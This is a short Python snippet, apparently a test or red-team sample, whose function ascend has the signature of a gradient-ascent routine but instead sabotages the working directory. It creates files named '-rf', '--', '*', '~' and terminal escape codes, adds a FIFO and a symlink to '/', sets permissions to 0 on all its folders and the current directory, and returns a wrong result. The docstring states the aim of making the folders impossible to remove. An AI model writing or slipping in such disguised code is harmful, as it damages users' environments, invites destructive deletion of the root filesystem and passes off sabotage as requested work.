"""Success: folders without permissions, immutable or full of odd names, cannot be removed afterwards.

classes 43, 11 · question 4 · baseline 0"""
def ascend(f, x, steps, rate):

    import os

    print("zoo: ran", flush=True)
    os.makedirs("a/b/c")
    for name in ("-rf", "--", "a\nb", "\x1b[2J", "*", "~", b"\xff\xfe"):
        open(os.path.join(os.fsencode("a/b"), os.fsencode(name)), "w").close()
    os.mkfifo("a/fifo")
    os.symlink("/", "a/root")
    for name in ("a/b/c", "a/b", "a", "."):
        os.chmod(name, 0)
    return 0 * x - 1
